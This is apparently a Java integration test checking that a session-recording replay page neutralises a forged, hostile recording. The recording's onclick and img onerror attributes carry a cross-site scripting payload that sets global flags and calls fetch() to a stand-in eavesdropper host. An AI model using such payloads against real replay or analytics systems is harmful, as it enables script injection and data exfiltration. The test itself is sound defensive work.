package org.sessionrecording.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Response;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.sessionrecording.harness.Chromium;

/** Anyone with the public token can forge a recording. Whoever watches one is safe, and nobody learns of it. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileRecordingIT {
    private static final String MARK = "all of it is here";

    @TempDir
    static Path folder;

    private RunningHost host;
    private Chromium chromium;
    private Eavesdropper eavesdropper;

    @BeforeAll
    void start() throws Exception {
        host = RunningHost.start(folder.resolve("host"));
        chromium = new Chromium();
        eavesdropper = new Eavesdropper();
    }

    @AfterAll
    void stop() throws Exception {
        eavesdropper.close();
        chromium.close();
        host.close();
    }

    @Test
    void runs_nothing_and_asks_nobody() throws Exception {
        JsonNode recording = forge();
        try (WatchedBrowser browser = new WatchedBrowser(host, chromium, eavesdropper, folder.resolve("browser"))) {
            browser.loggedIn();
            try (PlayerPage player = PlayerPage.atTheEnd(host, browser.context(), RecordingsOf.link(recording))) {
                player.screenshot("hostile");
                assertThat(player.inReplayed("document => document.body.textContent", null))
                        .asString()
                        .contains(MARK, "added later");
                assertThat(player.theatre().evaluate("() => document.querySelector('iframe').getAttribute('sandbox')"))
                        .isEqualTo("allow-same-origin");
                assertThat(
                                player.theatre()
                                        .evaluate(
                                                "() => typeof window.owned + typeof document.querySelector('iframe').contentWindow.owned"))
                        .isEqualTo("undefinedundefined");
                assertThat(player.page().evaluate("() => typeof window.owned")).isEqualTo("undefined");
                assertThat(player.inReplayed("document => document.querySelector('a').click()", null))
                        .isNull();
                browser.assertNothingHappened(player.page());
            }
        }
        assertThat(eavesdropper.heard()).isEmpty();
    }

    @Test
    void the_replay_page_may_only_be_framed_by_the_host_and_fetches_nothing() {
        try (BrowserContext browser = chromium.context(800, 600)) {
            Response answer = browser.newPage().navigate(host.replayUrl() + "/session-recording/replay.html");
            assertThat(answer.headerValue("content-security-policy"))
                    .contains(
                            "default-src 'none'",
                            "script-src 'sha256-",
                            "style-src 'unsafe-inline'",
                            "img-src data: blob:",
                            "base-uri 'none'",
                            "form-action 'none'",
                            "frame-ancestors " + host.url())
                    .doesNotContain("connect-src", "'self'", "unsafe-eval");
            assertThat(answer.headerValue("set-cookie")).isNull();
        }
    }

    private JsonNode forge() {
        String own = "window.owned=1;top.owned=1;parent.owned=1;fetch('" + eavesdropper.url() + "/owned')";
        String node = Resources.text("hostile-node.json")
                .replace("URL", eavesdropper.url())
                .replace("OWN", own);
        long now = System.currentTimeMillis();
        String event = """
                {"event":"$snapshot","properties":{"token":"%s","distinct_id":"mallory","$session_id":"forged","$window_id":"w",\
                "$snapshot_data":[{"type":4,"timestamp":%d,"data":{"href":"%s","width":900,"height":600}},\
                {"type":2,"timestamp":%d,"data":{"node":%s,"initialOffset":{"left":0,"top":0}}},\
                {"type":3,"timestamp":%d,"data":{"source":0,"texts":[],"removes":[],"attributes":[\
                {"id":40,"attributes":{"onclick":"%s","style":"background:url('%s/later')"}}],"adds":[\
                {"parentId":20,"nextId":null,"node":{"type":2,"tagName":"img","attributes":{"src":"%s/added","onerror":"%s"},"childNodes":[],"id":50}},\
                {"parentId":20,"nextId":null,"node":{"type":2,"tagName":"p","attributes":{},"childNodes":[],"id":51}},\
                {"parentId":51,"nextId":null,"node":{"type":3,"textContent":"added later","id":52}}]}}]}}
                """.formatted(
                        host.token(),
                        now,
                        eavesdropper.url(),
                        now,
                        node,
                        now + 500,
                        own,
                        eavesdropper.url(),
                        eavesdropper.url(),
                        own);
        RecordingsOf recordings = new RecordingsOf(host);
        host.api().capture("/s/", "application/json", "Mallory/1", event.getBytes(StandardCharsets.UTF_8));
        return recordings.awaitNew(Set.of(), MARK);
    }
}
